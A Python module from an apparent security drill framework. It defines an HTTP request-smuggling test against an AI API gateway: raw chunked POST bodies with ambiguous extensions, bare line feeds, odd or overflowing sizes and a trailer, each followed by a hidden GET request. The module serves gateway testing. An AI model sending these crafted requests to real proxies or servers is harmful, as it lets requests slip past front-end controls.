"""Bodies in chunks whose borders two readers would find at different places."""

from bartizan.drill.attack import Attack, Outcome, Stage
from bartizan.drill.door import Door
from bartizan.drill.target import Target
from bartizan.drill.trial import answered_raw, worst


def _act(target: Target) -> Outcome:
    door, token = target.door, target.caller()
    goal = "chunks whose borders two readers would find at different places were taken"
    return worst([answered_raw(door.raw(octets), goal) for octets in _requests(door, token)])


def _requests(door: Door, token: str) -> list[bytes]:
    body = door.body({"messages": [{"role": "user", "content": "hi"}]})
    size, hidden = b"%x" % len(body), door.request("GET", door.path("models"), token=token)
    bodies = (
        # Extensions, which one reader ends at the line's end and another at a bare LF.
        size + b";a=b\r\n" + body + b"\r\n0\r\n\r\n",
        size + b";\n" + body + b"\r\n0\r\n\r\n",
        # Sizes that parsers of numbers like, and one that wraps around.
        b"0x" + size + b"\r\n" + body + b"\r\n0\r\n\r\n",
        b"100000000" + size + b"\r\n" + body + b"\r\n0\r\n\r\n",
        # Data that ends in another way than with CR LF, and trailers.
        size + b"\r\n" + body + b"\n\n0\r\n\r\n",
        size + b"\r\n" + body + b"\r\n0\r\ncontent-length: 5\r\n\r\n",
    )
    return [_head(door, token) + each + hidden for each in bodies]


def _head(door: Door, token: str) -> bytes:
    fields = [("content-type", "application/json"), ("transfer-encoding", "chunked")]
    return door.request("POST", door.path("chat/completions"), token=token, headers=fields)


ATTACK = Attack(
    name="chunks-ambiguous",
    control="gateway.input-valid",
    title="ambiguous chunks",
    skill=4,
    stage=Stage.FRONT,
    because="extensions and line ends of chunks are read differently by proxies and servers (RFC 9112 section 7.1)",
    references=("AML.T0049", "API8:2023", "CWE-444"),
    weakening="chunks_unchecked",
    act=_act,
)
